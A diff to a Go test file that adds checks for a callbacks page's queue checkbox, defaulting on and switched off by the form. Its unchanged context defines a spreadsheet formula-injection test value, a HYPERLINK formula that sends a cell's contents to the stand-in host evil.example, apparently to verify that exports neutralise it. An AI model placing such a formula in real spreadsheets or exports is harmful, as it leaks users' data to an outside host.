@@ -104,6 +104,23 @@ func TestCallbacksPage(t *testing.T) {
 	if status, _, h := postForm(t, c, page, form); status != http.StatusSeeOther || !strings.HasSuffix(h.Get("Location"), "/sites/"+f.key+"/callbacks?done=saved") {
 		t.Errorf("saving with the same secret: %d %v", status, h)
 	}
+	// The queue of callbacks without a scenario is on by default; the form
+	// turns it off, and a form that does not show the box keeps it.
+	if _, body := getPage(t, c, page); !strings.Contains(body, `name="queue" value="1" checked`) || w.NoQueue {
+		t.Errorf("the queue is not on by default: %+v", w)
+	}
+	form.Set("queue_shown", "1")
+	if status, _, _ := postForm(t, c, page, form); status != http.StatusSeeOther {
+		t.Errorf("queue off: %d", status)
+	}
+	form.Del("queue_shown")
+	postForm(t, c, page, form)
+	if w2, _ := widgetSettings(t, f); !w2.NoQueue {
+		t.Errorf("the queue is still on: %+v", w2)
+	}
+	if _, body := getPage(t, c, page); strings.Contains(body, `name="queue" value="1" checked`) {
+		t.Errorf("the page shows the queue on")
+	}
 
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	for _, fields := range []map[string]any{
